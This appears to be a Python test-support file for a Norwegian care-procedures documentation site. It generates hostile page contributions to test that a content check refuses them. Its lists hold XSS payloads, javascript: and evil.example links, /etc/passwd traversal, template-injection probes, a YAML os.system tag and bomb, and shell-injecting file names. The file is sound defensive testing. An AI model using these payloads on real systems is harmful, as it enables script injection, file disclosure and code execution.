"""Hostile contributions, one page or one file each, over every class of shared/threats.md.

A page case is a payload and the field it stands in. What the check lets through is built and opened in Chromium.
"""

import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from tests.support import Book

RUN = "window.pwned=1"
OUT = "https://evil.example/x.png"
TEMPLATE = """---
id: {id}
title: {title}
kind: procedure
status: draft
version: "0.1"
language: nb
summary: {summary}
purpose: {purpose}
scope: Gjelder alle.
services: [hjemmesykepleie]
roles: [sykepleier]
decision_track: municipal
local_decision_required: false
change: {change}
steps:
  - id: ring
    title: {step_title}
    role: sykepleier
    text: {text}
    record: {record}
references:
  - {{source: lov-2011-06-24-30, note: {note}}}
keywords: [{keyword}]
uncertain: [{uncertain}]
{extra}---

{body}
"""
FIELDS = ("title", "summary", "purpose", "change", "step_title", "record", "note", "keyword", "uncertain")
"""Free texts that the theme, the menu, lists and search show."""

HTML = (
    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<body onload={RUN}>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", "<iframe src=https://evil.example></iframe>", f"<details open ontoggle={RUN}>x</details>",
    f"<video src=x onerror={RUN}></video>", f"<audio src=x onerror={RUN}>", f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>", "<form action=https://evil.example><input name=x></form>", f"<button formaction=javascript:{RUN}>x</button>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=https://evil.example/>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>", "<style>*{display:none}</style>", f"<object data=javascript:{RUN}></object>", "<embed src=https://evil.example>",
    f"<a href=javascript:{RUN}>x</a>", f"<math><a xlink:href=javascript:{RUN}>x</a></math>", f"<template><script>{RUN}</script></template>", f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<!-- --><script>{RUN}</script>", f"<!--[if IE]><script>{RUN}</script><![endif]-->", f"<![CDATA[<script>{RUN}</script>]]>", f"<?xml ?><script>{RUN}</script>", f"<ScRiPt>{RUN}</ScRiPt>",
    f"<script\n>{RUN}</script>", f"<img\nsrc=x\nonerror={RUN}>", f"\\<img src=x onerror={RUN}>", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"<<script>{RUN}//<</script>",
    f"</p><script>{RUN}</script>", f"`</code><script>{RUN}</script>`", f"```\n</code></pre><script>{RUN}</script>\n```", f"~~~\n</code></pre><script>{RUN}</script>\n~~~", f"    </code></pre><script>{RUN}</script>",
    f"- a\n\n    <script>{RUN}</script>", f"> <img src=x onerror={RUN}>", f"| a |\n|---|\n| <img src=x onerror={RUN}> |", f"1. x\n   ```\n   </pre><script>{RUN}</script>\n   ```", f"[x]: <img src=x onerror={RUN}>\n\n[x]",
    "<p style='background:url(https://evil.example/x)'>x</p>", "<div class=md-overlay style='position:fixed;inset:0'>x</div>", f"<marquee onstart={RUN}>x</marquee>", "<portal src=https://evil.example>", f"<dialog open onclose={RUN}>x</dialog>",
)  # fmt: skip
LINKS = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"&#106;avascript:{RUN}", f"javascript&colon;{RUN}", f"java%73cript:{RUN}", f"%6aavascript:{RUN}", f"javascript%3A{RUN}",
    f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg/onload=pwned=1>", "blob:https://evil.example/x", "file:///etc/passwd",
    "ftp://evil.example/", "http://evil.example/", "//evil.example/", "\\\\evil.example\\x", "/\\evil.example", "https:evil.example", "https:/evil.example", "https://helsenorge.no@evil.example/", "https://helsenorge.no%40evil.example/",
    "https://user:pass@evil.example/", "https://", "https:///x", " javascript:x", "\u00a0javascript:x", f"\u0001javascript:{RUN}", f"javascript://%0a{RUN}", f"feed:javascript:{RUN}", f"view-source:javascript:{RUN}", "about:blank", "ws://evil.example/",
    "mailto:a@evil.example?body=<script>", "tel:+4791234567", "intent://x#Intent;end", "jar:https://evil.example!/x", "../../../etc/passwd", "/api/../../x", "/prosedyrer/../../x/", '#" onclick=pwned=1 x="', 'https://evil.example/" onclick=pwned=1 x="', "https://[::1]/", "https://xn--80ak6aa92e.com/",
)  # fmt: skip
ATTRIBUTES = (
    f"Tekst {{: onclick={RUN} }}", f"Tekst\n{{: onmouseover={RUN} }}", f"## Overskrift {{: onclick={RUN} }}", f"## Overskrift {{#x onclick={RUN}}}", f"[x](https://a.example){{: onclick={RUN} }}", f"[x](https://a.example){{:target=_blank onmouseover={RUN}}}",
    "Tekst {: style='position:fixed;inset:0' }", "Tekst {: .md-overlay }", "Tekst {: class=hb-hidden }", "Tekst {: hidden }", "Tekst {#__toc}", "- punkt {: onclick=pwned=1 }", "| a |\n|---|\n| b {: onclick=pwned=1 } |", "![x](x.png){: onerror=pwned=1 }",
    "*x*{: onclick=pwned=1 }", "`x`{: onclick=pwned=1 }", "`x`{.python onclick=pwned=1}", "``` {.python onclick=pwned=1}\nx\n```", "```python {: onclick=pwned=1 }\nx\n```", "> x\n{: onclick=pwned=1 }",
)  # fmt: skip
SPECIAL = (
    '--8<-- "mkdocs.yml"', '--8<-- "/etc/passwd"', "--8<--\nmkdocs.yml\n--8<--", '; --8<-- "x"', "{{ config.site_name }}", "{% set x = 1 %}{{ x }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ self._TemplateReference__context }}",
    "{# skjult #}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{constructor.constructor('window.pwned=1')()}}", "!!! note\n    <script>pwned=1</script>", '??? "x"\n    <script>pwned=1</script>', '=== "x"\n    <img src=x onerror=pwned=1>', "[TOC]",
    "*[HTML]: <script>pwned=1</script>\n\nHTML", "[^1]\n\n[^1]: <script>pwned=1</script>", "Term\n:   <script>pwned=1</script>", ":material-account:{ onclick=pwned=1 }", "$$\\href{javascript:pwned=1}{x}$$", "\\(\\href{javascript:pwned=1}{x}\\)",
    f"```mermaid\ngraph TD\nA[\"<img src='{OUT}'>\"]\nclick A call pwned()\n```", f"```mermaid\n%%{{init: {{'securityLevel': 'loose'}}}}%%\ngraph LR\nA-->B\nclick A \"javascript:{RUN}\"\n```", '```dot\ndigraph { a [URL="javascript:pwned=1"] }\n```',
    f"![x]({OUT})", "![x](x.svg)", "![x](data:image/svg+xml;base64,PHN2Zy8+)", "![x](../../../../etc/passwd)", "![x](/assets/icon.svg)", "![](bilde.png)", f"![x][b]\n\n[b]: {OUT}", f"[![x]({OUT})](https://a.example)", "<https://evil.example/><script>", f"<javascript:{RUN}>", "&lt;img src=x onerror=pwned=1&gt;",
    "# &lt;/title&gt;&lt;script&gt;pwned=1&lt;/script&gt;", "## &lt;/title&gt;&lt;script&gt;pwned=1&lt;/script&gt;", "## `</title><script>pwned=1</script>`", "## [x](javascript:pwned=1)", "Setext <script>\n===", "a" * 400 + "<b>", "[" * 3000, "*" * 3000, "> " * 500 + "x", "- " * 300 + "x", "![" * 2000, "`" * 3001, "[x](" * 1500, "&" * 3000, "<" * 3000, "|" * 3000 + "\n" + "|-" * 1500,
)  # fmt: skip
TEXTS = (
    f"<script>{RUN}</script>", f"</title><script>{RUN}</script>", f"&lt;/title&gt;&lt;script&gt;{RUN}&lt;/script&gt;", f'"><img src=x onerror={RUN}>', f"' onfocus={RUN} autofocus='", f"--><script>{RUN}</script><!--", f"]]><script>{RUN}</script>", f"</script><script>{RUN}</script>",
    f"{{{{ {RUN} }}}}", "{% include 'x' %}", f"[x](javascript:{RUN})", f"![x]({OUT})", f"`<b onclick={RUN}>`", f"\\u003cscript\\u003e{RUN}", f"</textarea><script>{RUN}</script>", f"</style><script>{RUN}</script>",
)  # fmt: skip
SIGNS = {
    "right-to-left override": "\u202e", "left-to-right isolate": "\u2066", "pop isolate": "\u2069", "zero-width space": "\u200b", "zero-width joiner": "\u200d", "word joiner": "\u2060", "byte order mark": "\ufeff", "tag letter": "\U000e0041", "NUL": "\x00", "ESC": "\x1b[31m", "BEL": "\x07", "backspace": "\x08",
    "C1 control": "\x9b31m", "line separator": "\u2028", "paragraph separator": "\u2029", "private use": "\ue000", "variation selector in tags": "\U000e0100", "Hangul filler": "\u3164", "braille blank": "\u2800", "interlinear": "\ufff9", "not a character": "\uffff", "decomposed å": "a\u030a", "tab": "\t", "Mongolian vowel separator": "\u180e",
}  # fmt: skip


@dataclass(frozen=True)
class Case:
    """A page: its class, and the text of its file. `refused`: the check must stop it."""

    kind: str
    name: str
    text: bytes
    refused: bool = False

    @property
    def path(self) -> str:
        return f"procedures/hjemmetjenester/{self.name}.md"


def _file(name: str, **fields: str) -> bytes:
    filled = dict.fromkeys(FIELDS, "") | {"text": "Ring.", "extra": "", "body": ""}
    for key in FIELDS:
        filled[key] = json.dumps(f"Vanlig tekst her {name}", ensure_ascii=False)
    filled["summary"] = json.dumps(f"Ring avdelingen når det haster, og skriv ned hva du sendte. {name}")
    filled["text"] = '"Ring."'
    for key, value in fields.items():
        filled[key] = value if key in ("body", "extra") else json.dumps(value, ensure_ascii=False)
    return TEMPLATE.format(id=name, **filled).encode("utf-8", "surrogatepass")


def page_cases() -> Iterator[Case]:  # noqa: C901 - one loop for each class
    """Every page case, each with a name of its own."""
    number = 0

    def named(kind: str) -> str:
        nonlocal number
        number += 1
        return f"sak-{kind}-{number}"

    for payload in HTML:
        for field in ("body", "text"):
            name = named("html")
            yield Case("markup", name, _file(name, **{field: payload}))
    for payload in LINKS:
        name = named("lenke")
        yield Case(
            "links",
            name,
            _file(name, body=f"Se [lenken](<{payload}>) og [en til]({payload}).\n\n[b]: {payload}\n\n[b]"),
        )
    for payload in ATTRIBUTES:
        name = named("attributt")
        yield Case("attributes", name, _file(name, body=f"{payload}\n"))
    for payload in SPECIAL:
        name = named("spesiell")
        yield Case("special", name, _file(name, body=f"{payload}\n"))
    for payload in TEXTS:
        for field in FIELDS:
            name = named("felt")
            # A title and a summary need some length before they are judged at all.
            yield Case(
                "front matter", name, _file(name, **{field: f"{payload} og litt vanlig tekst bak"[:85].ljust(45, ".")})
            )
    for sign in SIGNS.values():
        for field in ("body", "title"):
            name = named("tegn")
            written = f"Før{sign}etter som vanlig"
            fields = {"title": written} if field == "title" else {"body": written}
            text = _file(name, **fields)
            if field == "title":
                text = text.replace(json.dumps(written, ensure_ascii=False).encode(), f'"{written}"'.encode())
            yield Case("Unicode", name, text, refused=sign != "\t" or field == "title")


YAML = {
    "python tag": "x: !!python/object/apply:os.system ['touch pwned']", "tag": "x: !<tag:evil> y", "anchor": "x: &a y", "alias": "x: &a [y]\nz: *a", "merge key": "x: &a {y: z}\n<<: *a", "duplicate key": "id: a\nid: b", "billion laughs": "a: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]",
    "nested brackets": "x: " + "[" * 20_000, "nested braces": "x: " + "{a: " * 5_000, "nested dashes": "x:\n " + "- " * 5_000 + "y", "100,000 values": "x: [" + "a," * 100_000 + "a]", "two documents": "id: a\n---\nid: b", "directive": "%YAML 1.1\n---\nid: a", "complex key": "? [a, b]\n: c", "list as key": "[a]: b", "null key": "~: x",
    "long key": "a" * 2000 + ": b", "unclosed quote": 'x: "' + "a" * 10_000, "block never ends": "x: |" + "\n  a" * 20_000, "escaped NUL": 'title: "a\\0b"', "escaped direction": 'title: "a\\u202eb"', "escaped surrogate": 'title: "a\\ud800b"', "comment in value": "title: Gi 5 mg #2", "sexagesimal": "version: 1:20", "octal": "version: 010",
    "binary": "x: !!binary aGVp", "set": "x: !!set {a, b}", "timestamp": "x: !!timestamp 2026-01-01", "tab indent": "steps:\n\t- id: a", "many anchors": "\n".join(f"a{n}: &a{n} x" for n in range(500)), "self reference": "x: &x [*x]", "only a comment": "# ingenting", "a scalar": "hei", "empty": "", "percent": "x: %a", "at sign": "x: @a", "backtick": "x: `a`",
}  # fmt: skip


def yaml_files() -> Iterator[tuple[str, str, bytes]]:
    """Name, path and content of files whose YAML is hostile; every one must be refused."""
    for number, (name, text) in enumerate(YAML.items()):
        yield name, f"procedures/hjemmetjenester/yaml-{number}.md", f"---\n{text}\n---\n".encode()
        yield f"{name}, in a list", "vocabulary/terms.yml", f"{text}\n".encode()


def odd_files(secret: Path) -> dict[str, dict[str, object]]:
    """Things that do not belong in the folders, as changes that `Book.edit` makes."""
    folder = "procedures/hjemmetjenester"
    svg = "<svg xmlns='http://www.w3.org/2000/svg'><script>parent.pwned=1</script></svg>"
    picture = f"{folder}/innleggelsesrapport"
    return {
        "link to a file": {"file": f"{folder}/lenke.md", "link": str(secret)},
        "link to a folder": {"file": "procedures/lenke", "link": str(secret.parent)},
        "link out of docs": {"file": "docs/om/lenke.md", "link": str(secret)},
        "link as a picture": {"file": f"{picture}/bilde.png", "link": str(secret)},
        "link as a folder of pictures": {"file": f"{folder}/korttidsopphold", "link": str(secret.parent)},
        "dangling link": {"file": f"{folder}/ingen.md", "link": "/finnes/ikke"},
        "link round": {"file": f"{folder}/rundt.md", "link": "rundt.md"},
        "FIFO": {"file": f"{folder}/ror.md", "fifo": True},
        "folder named as a file": {"file": f"{folder}/mappe.md", "directory": True},
        "deep folder": {"file": f"{folder}/a/b/c/d/e.md", "create": "x"},
        "svg": {"file": f"{picture}/bilde.svg", "create": svg},
        "svg as png": {"file": f"{picture}/bilde.png", "create": svg},
        "html as jpg": {"file": f"{picture}/bilde.jpg", "create": "<script>pwned=1</script>"},
        "service worker": {"file": "docs/sw.js", "create": "self.pwned=1"},
        "search index": {"file": "docs/search_index.json", "create": "{}"},
        "html page": {"file": "docs/om/x.html", "create": "<script>pwned=1</script>"},
        "html in procedures": {"file": f"{folder}/x.html", "create": "<script>"},
        "404 page": {"file": "docs/404.html", "create": "<script>"},
        "style sheet": {"file": "docs/om/extra.css", "create": "*{display:none}"},
        "htaccess": {"file": "docs/om/CNAME", "create": "evil.example"},
        "template": {"file": "docs/om/main.html.j2", "create": "{{ x }}"},
        "capital letters": {"file": f"{folder}/Innleggelsesrapport.md", "create": "x"},
        "capital extension": {"file": f"{folder}/x.MD", "create": "x"},
        "decomposed name": {"file": f"{folder}/a\u030a.md", "create": "x"},
        "æøå": {"file": f"{folder}/blåbær.md", "create": "x"},
        "look-alike letter": {"file": f"{folder}/innleggelsesr\u0430pport.md", "create": "x"},
        "reserved on Windows": {"file": f"{folder}/con.md", "create": "x"},
        "reserved folder": {"file": f"{folder}/aux/bilde.png", "create": "x"},
        "control sign in name": {"file": f"{folder}/a\x1b[31m.md", "create": "x"},
        "line break in name": {"file": f"{folder}/a\nb.md", "create": "x"},
        "direction in name": {"file": f"{folder}/a\u202edm.md", "create": "x"},
        "dash first": {"file": f"{folder}/-rf.md", "create": "x"},
        "shell in name": {"file": f"{folder}/$(touch x).md", "create": "x"},
        "semicolon in name": {"file": f"{folder}/a;b.md", "create": "x"},
        "space in name": {"file": f"{folder}/a b.md", "create": "x"},
        "two dots": {"file": f"{folder}/a..md", "create": "x"},
        "percent": {"file": f"{folder}/%2e%2e.md", "create": "x"},
        "too large": {"file": f"{folder}/stor.md", "size": 600_000, "of": "x"},
        "large picture": {"file": f"{picture}/bilde.png", "size": 400_000, "of": "x"},
        "long line": {"file": f"{folder}/lang.md", "size": 490_000, "of": "x"},
        "not UTF-8": {"file": f"{folder}/latin.md", "bytes": "LS0tCuXmCi0tLQo="},
        "UTF-16": {"file": f"{folder}/utf16.md", "bytes": "//4tAC0ALQAKAA=="},
        "cut UTF-8": {"file": f"{folder}/kutt.md", "bytes": "LS0tCsM="},
        "lone surrogate": {"file": f"{folder}/surrogat.md", "bytes": "LS0tCu2ggAo="},
        "overlong": {"file": f"{folder}/overlang.md", "bytes": "LS0tCsCvCg=="},
        "empty": {"file": f"{folder}/tom.md", "create": ""},
        "only blanks": {"file": f"{folder}/blank.md", "create": "\n\n \n"},
        "zip": {"file": f"{folder}/pakke.zip", "create": "PK"},
        "script": {"file": f"{folder}/kjor.sh", "create": "#!/bin/sh"},
        "python": {"file": f"{folder}/conftest.py", "create": "raise SystemExit"},
    }


def place(book: Book, cases: list[Case]) -> None:
    """Write the files of some cases."""
    for case in cases:
        book.write(case.path, case.text)
